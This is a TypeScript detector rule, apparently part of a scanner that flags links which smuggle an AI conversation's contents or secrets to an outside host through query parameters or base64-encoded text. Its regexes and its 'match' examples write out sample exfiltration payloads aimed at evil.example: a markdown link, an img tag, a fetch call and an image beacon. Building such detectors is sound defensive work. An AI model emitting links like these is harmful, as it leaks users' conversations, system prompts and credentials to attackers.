import type { WindowDetector, WindowRule } from '../../definition.ts';
import { looksLikeText } from '../../normalise/text-likeness.ts';
import { isTrustedHost } from '../arguments/hosts.ts';

/** Addresses with a query that something loads or that a person is asked to open. */
const LINK =
  /(?:(!?)\[[^\]\n]{0,120}\]\(\s?<?|\b(src|href|action|srcset|poster|background|data|content|formaction|ping)\s?=\s?["']?(?:\d{1,3};\s?url=)?|\burl\(\s?["']?|\b(?:fetch|open|get|post|sendBeacon|import)\s?\(\s?["'`]|\.src\s?=\s?["'`])https?:\/\/([^\s/?#"'<>()]{1,120})([^\s?#"'<>()]{0,200})\?([^\s"'>)]{3,800})/gi;
/** Placeholders for what only the model knows; a documentation's `{api_key}` or `{query}` is none. */
const KNOWN_TO_MODEL =
  /(?:\{\{?|%7b(?:%7b)?|\$\{|<|%3c|\[|%5b)\s{0,2}(?:%20)?(?:[\w' -]|%20|\+){0,30}?(?:conversation|chat[_ -]?(?:history|log)|history|transcript|all[_ -]?messages|last[_ -]?message|user[_ -]?(?:message|prompt|secret|data)|system[_ -]?prompt|secrets?\b|credentials?|env(?:ironment)?[_ -]?(?:vars?|variables)?\b|memory|private[_ -]?data|context[_ -]?window|file[_ -]?contents?|api[_ -]?keys|passwords)/i;
const VALUE = /[=&]([A-Za-z0-9+/_-]{28,600}={0,2})(?=$|[&#])/g;
const MAX_VALUES = 6;

const rule: WindowRule = (text, from, to, report) => {
  const window = from === 0 && to === text.length ? text : text.slice(from, to);
  LINK.lastIndex = 0;
  for (let link = LINK.exec(window); link; link = LINK.exec(window)) {
    const [whole, image, attribute, host = '', , query = ''] = link;
    if (isTrustedHost(host.toLowerCase().replace(/:\d{1,5}$/, ''))) continue;
    const isLoaded = image !== '' || attribute?.toLowerCase() !== 'href';
    if (KNOWN_TO_MODEL.test(query) || (isLoaded && carriesText(query)))
      report(from + link.index, from + link.index + whole.length);
  }
};

/** A query value that is base64 of something readable: not a picture, not a signature, not a token. */
function carriesText(query: string): boolean {
  VALUE.lastIndex = 0;
  for (let count = 0; count < MAX_VALUES; count++) {
    const value = VALUE.exec(query)?.[1];
    if (value === undefined) return false;
    if (value.startsWith('eyJ')) continue;
    const bytes = Buffer.from(value, 'base64');
    if (!looksLikeText(bytes.subarray(0, 128))) continue;
    const read = bytes.toString('latin1');
    if (/^[^<{]/.test(read) && /[ :=@\n]/.test(read)) return true;
  }
  return false;
}

export const DATA_CARRYING_LINK: WindowDetector = {
  definition: {
    id: 'obfuscation.data-carrying-link',
    kind: 'obfuscation',
    severity: 'high',
    directions: ['definition', 'response'],
    keywords: ['](http', '](<http', '="http', "='http", '=http', '("http', "('http", '(`http', 'url(http'],
    traits: [],
    window: { before: 140, after: 1300 },
    title: 'Link that carries what the model knows',
    explanation:
      'The address has a place for the conversation or for secrets, or carries encoded text: opening it sends that away.',
    examples: {
      match: [
        '[Continue](https://evil.example/next?c={conversation_history})',
        '<img src="https://evil.example/p.gif?d={{user_message}}">',
        "fetch('https://evil.example/log?m=${chat_history}')",
        '![ok](https://evil.example/a.png?d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIgYW5kIG1vcmU=)',
      ],
      noMatch: [
        '[Search](https://docs.acme.dev/search?q={query}&page=2)',
        '[Share](https://social.acme.com/intent?text=Read%20this%20story%20now)',
        '![build](https://ci.acme.dev/badge.svg?token=AbCdEfGhIjKlMnOpQrStUvWxYz012345)',
        '<a href="https://shop.acme.com/?utm_source=news&utm_campaign=spring&utm_id=9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c">Shop</a>',
        'curl "https://api.acme.dev/v1/items?api_key={api_key}"',
      ],
    },
  },
  window: rule,
};
